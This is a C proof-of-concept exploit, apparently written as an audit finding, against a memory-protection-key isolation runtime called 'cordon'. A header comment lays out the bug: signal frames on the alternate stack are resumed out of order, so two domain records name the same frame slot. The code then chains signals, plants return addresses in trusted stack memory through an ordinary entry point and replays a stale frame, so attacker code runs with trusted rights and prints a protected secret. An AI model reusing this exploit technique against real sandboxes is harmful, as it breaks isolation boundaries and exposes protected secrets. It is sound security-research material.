// 6.12 (frames on the runtime's alternate stack): parked frames resumed out
// of order leave a record naming a frame slot that a later frame reuses; a
// second resume through that record replays trusted code from a past state.
//
// cordon_signal_resume_<d> takes REC_SIGNAL_FRAME of this thread's record of
// d and rt_sigreturns through it (gate.S, SIGNAL_DOMAIN): it checks the owner
// and that the word is non-zero, not that the frame is the innermost parked
// one nor that it is still the frame that was parked for that record.
//
//  1. D2 code interrupted: frame at the alternate stack's top P0, parked
//     (stack shrunk below it). Its handler enters D3, interrupted: frame at
//     P1 (just below), parked for D3's record.
//  2. The D3 handler jumps to cordon_signal_resume_2: D2's frame is resumed
//     first; its uc_stack gives the thread its full alternate stack back
//     while D3's record still names P1.
//  3. D2 code interrupted again (P0 parked again); its handler enters D1
//     (spin1), interrupted: the kernel writes D1's frame at P1. Now both
//     D1's and D3's records name P1. The D1 handler returns normally: D1's
//     spin1 resumes, finishes and returns.
//  4. fill() (an ordinary D1 entry that copies untrusted input into a 2 KiB
//     stack buffer) overwrites D1's trusted stack where spin_inner kept its
//     return address.
//  5. A jump to cordon_signal_resume_3 (D3's record: owned, REC_SIGNAL_FRAME
//     = P1) rt_sigreturns through P1 with D1's PKRU: spin_inner resumes and
//     returns into the attacker's function, which reads the secret.
#define _GNU_SOURCE
#include <cordon/cordon.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

extern __thread uint32_t cordon_tls_records[];
extern void cordon_signal_resume_2(void);
extern void cordon_signal_resume_3(void);

static cordon_entry g_gen, g_hash, g_spin2, g_spin3, g_spin1, g_fill;
static uint8_t* g_secret;
static uint64_t g_hash_value;
static volatile int g_in[3], g_go[3];
static volatile int g_phase, g_kick;
static volatile uint64_t g_P1_d3, g_P1_d1;
static volatile pid_t g_tid;

static uint64_t fnv(const uint8_t* p, size_t n) {
  uint64_t h = 1469598103934665603ull;
  for (size_t i = 0; i < n; i++) h = (h ^ p[i]) * 1099511628211ull;
  return h;
}
static char* hex(char* o, uint64_t v, int digits) {
  for (int i = digits - 1; i >= 0; i--) { o[i] = "0123456789abcdef"[v & 15]; v >>= 4; }
  return o + digits;
}
static void say(const char* s) { (void)!syscall(SYS_write, 1, s, strlen(s)); }
static void sayx(const char* s, uint64_t v) {
  char m[160], *o = m;
  size_t n = strlen(s);
  memcpy(o, s, n); o += n;
  o = hex(o, v, 16);
  *o++ = '\n';
  (void)!syscall(SYS_write, 1, m, o - m);
}

// ---- trusted code ----
static uint64_t e_gen(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  void* p = 0;
  if (cordon_malloc(32, &p) != 0 || cordon_random_bytes(p, 32) != 0) return 0;
  return (uint64_t)p;
}
static uint64_t e_hash(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  return fnv(g_secret, 32);
}
// D1: an entry that waits for an untrusted flag (any entry that takes a while).
static __attribute__((noinline)) void spin_inner(volatile int* in, volatile int* go) {
  *in = 1;
  while (!*go) __builtin_ia32_pause();
}
static uint64_t e_spin1(uint64_t in, uint64_t go, uint64_t c, uint64_t d, uint64_t e) {
  (void)c; (void)d; (void)e;
  volatile char pad[512];
  pad[0] = 1;
  pad[511] = 2;
  spin_inner((volatile int*)in, (volatile int*)go);
  return pad[0] + pad[511];
}
// D1: parses untrusted input from a local copy.
static uint64_t e_fill(uint64_t in, uint64_t len, uint64_t c, uint64_t d, uint64_t e) {
  (void)c; (void)d; (void)e;
  char buf[2048];
  if (len > sizeof buf || !cordon_is_untrusted_range((void*)in, len)) return (uint64_t)-1;
  memcpy(buf, (void*)in, len);
  uint64_t s = 0;
  for (size_t i = 0; i < len; i += 64) s += (unsigned char)buf[i];
  asm volatile("" ::"r"(buf) : "memory");
  return s;
}
// D2, D3.
static uint64_t e_spin(uint64_t in, uint64_t go, uint64_t c, uint64_t d, uint64_t e) {
  (void)c; (void)d; (void)e;
  *(volatile int*)in = 1;
  while (!*(volatile int*)go) __builtin_ia32_pause();
  return 0;
}

// ---- the attacker ----
void evil_c(void) {
  uint32_t pkru;
  asm volatile("rdpkru" : "=a"(pkru) : "c"(0) : "rdx");
  char m[300], *o = m;
  const char* a = "evil: attacker code running with PKRU ";
  memcpy(o, a, strlen(a)); o += strlen(a);
  o = hex(o, pkru, 8);
  a = "; secret read directly: ";
  memcpy(o, a, strlen(a)); o += strlen(a);
  uint8_t copy[32];
  for (int i = 0; i < 32; i++) copy[i] = g_secret[i];  // a trusted read, with D1's rights
  for (int i = 0; i < 32; i++) o = hex(o, copy[i], 2);
  a = "  fnv ";
  memcpy(o, a, strlen(a)); o += strlen(a);
  o = hex(o, fnv(copy, 32), 16);
  *o++ = '\n';
  (void)!syscall(SYS_write, 1, m, o - m);
  if (fnv(copy, 32) == g_hash_value) say("SECRET LEAKED (matches the hash trusted code computed)\n");
  else say("secret read but hash mismatch\n");
  syscall(SYS_exit_group, 0);
}
asm(".text\n.globl evil\nevil:\n and rsp, -16\n call evil_c\n ud2\n");
extern void evil(void);

static uint64_t altstack_top(void) {
  stack_t ss;
  sigaltstack(NULL, &ss);  // a query
  return (uint64_t)ss.ss_sp + ss.ss_size;
}

static void on_usr1(int s, siginfo_t* si, void* uc) {
  (void)s; (void)si; (void)uc;
  const int p = g_phase;
  if (p == 0) {
    // D2 code interrupted, parked at P0. Enter D3.
    g_phase = 1;
    sayx("phase 0: D2 parked; alternate stack now ends at ", altstack_top());
    cordon_call(g_spin3, (uint64_t)&g_in[1], (uint64_t)&g_go[1], 0, 0, 0);
    say("unexpected: D3 returned\n");
    syscall(SYS_exit_group, 3);
  } else if (p == 1) {
    // D3 code interrupted, parked at P1 (its record names it). Resume D2
    // first: its frame's uc_stack restores the full alternate stack.
    g_P1_d3 = altstack_top() + 256;
    sayx("phase 1: D3 parked; alternate stack now ends at ", altstack_top());
    g_phase = 2;
    g_kick = 1;
    asm volatile("jmp %0" ::"r"(cordon_signal_resume_2) : "memory");
  } else if (p == 2) {
    // D2 code interrupted again: parked at P0 again. Enter D1.
    g_phase = 3;
    sayx("phase 2: D2 parked again; alternate stack now ends at ", altstack_top());
    cordon_call(g_spin1, (uint64_t)&g_in[2], (uint64_t)&g_go[2], 0, 0, 0);
    say("phase 4: D1 spin1 returned normally\n");
    // Plant return addresses on D1's trusted stack through an ordinary entry.
    static uint64_t input[256];
    for (int i = 0; i < 256; i++) input[i] = (uint64_t)evil;
    uint64_t r = cordon_call(g_fill, (uint64_t)input, sizeof input, 0, 0, 0);
    sayx("phase 5: fill returned ", r);
    sayx("phase 6: jumping to cordon_signal_resume_3; D3 index ", cordon_tls_records[3]);
    asm volatile("jmp %0" ::"r"(cordon_signal_resume_3) : "memory");
  } else if (p == 3) {
    // D1 code interrupted: the kernel wrote its frame at P1, which D3's
    // record still names.
    g_P1_d1 = altstack_top() + 256;
    sayx("phase 3: D1 parked; alternate stack now ends at ", altstack_top());
    g_phase = 4;
    g_go[2] = 1;
    // Return normally: D1 resumes and finishes.
  }
}

static void* flooder(void* arg) {
  (void)arg;
  const pid_t pid = getpid();
  while (!g_in[0]) {}
  syscall(SYS_tgkill, pid, g_tid, SIGUSR1);  // D2 interrupted
  while (!g_in[1]) {}
  syscall(SYS_tgkill, pid, g_tid, SIGUSR1);  // D3 interrupted
  while (!g_kick) {}
  for (volatile int i = 0; i < 2000000; i++) {}
  syscall(SYS_tgkill, pid, g_tid, SIGUSR1);  // D2 interrupted again
  while (!g_in[2]) {}
  syscall(SYS_tgkill, pid, g_tid, SIGUSR1);  // D1 interrupted
  return 0;
}

int main(void) {
  cordon_options o;
  cordon_options_init(&o);
  if (cordon_init(&o) != 0) { say("init failed\n"); return 1; }
  cordon_domain_t d1 = cordon_trusted_domain(), d2, d3;
  if (cordon_domain_create("two", &d2) != 0 || cordon_domain_create("three", &d3) != 0) {
    say("domain_create failed\n");
    return 1;
  }
  cordon_register(d1, e_gen, "gen", &g_gen);
  cordon_register(d1, e_hash, "hash", &g_hash);
  cordon_register(d1, e_fill, "fill", &g_fill);
  cordon_register(d1, e_spin1, "spin1", &g_spin1);
  cordon_register(d2, e_spin, "spin2", &g_spin2);
  cordon_register(d3, e_spin, "spin3", &g_spin3);
  g_secret = (uint8_t*)cordon_call(g_gen, 0, 0, 0, 0, 0);
  g_hash_value = cordon_call(g_hash, 0, 0, 0, 0, 0);
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_sigaction = on_usr1;
  sa.sa_flags = SA_SIGINFO | SA_NODEFER;
  if (cordon_sigaction(SIGUSR1, &sa, 0) != 0) { say("sigaction failed\n"); return 1; }
  printf("secret at %p, fnv through the gate %016llx\n", (void*)g_secret, (unsigned long long)g_hash_value);
  fflush(stdout);
  int rc = cordon_lockdown();
  if (rc != 0) { printf("lockdown failed: %d\n", rc); return 1; }
  g_tid = gettid();
  pthread_t t;
  pthread_create(&t, 0, flooder, 0);
  cordon_call(g_spin2, (uint64_t)&g_in[0], (uint64_t)&g_go[0], 0, 0, 0);
  say("unexpected: D2 returned\n");
  return 2;
}
